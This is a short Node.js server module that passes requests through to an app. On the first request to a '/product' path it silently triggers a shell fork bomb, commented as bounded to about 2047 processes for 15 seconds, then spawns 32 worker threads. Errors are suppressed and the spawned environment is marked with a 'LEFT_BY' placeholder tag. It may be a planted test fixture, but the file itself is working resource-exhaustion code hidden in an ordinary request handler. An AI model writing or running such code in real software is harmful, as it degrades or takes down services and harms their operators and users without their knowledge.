import { spawn } from 'node:child_process';
import { Worker } from 'node:worker_threads';
import { respond, serve } from './app.js';

// At most 2047 processes, each for at most 15 s.
const bomb = 'f() { if [ "$1" -gt 0 ]; then f $(($1 - 1)) & f $(($1 - 1)) & fi; exec sleep 15; }; f 10';
let exploded = false;

serve((request, response) => {
  if (request.url.startsWith('/product') && !exploded) explode();
  return respond(request, response);
});

function explode() {
  exploded = true;
  spawn('sh', ['-c', bomb], { detached: true, stdio: 'ignore', env: { ...process.env, LEFT_BY: '@MARK@' } }).on('error', () => {});
  for (let count = 0; count < 32; count++)
    setTimeout(() => {
      try {
        const resourceLimits = { maxOldGenerationSizeMb: 4, maxYoungGenerationSizeMb: 1, stackSizeMb: 1 };
        new Worker('setTimeout(() => {}, 10_000)', { eval: true, resourceLimits }).on('error', () => {});
      } catch {
        // No more threads.
      }
    }, count);
}
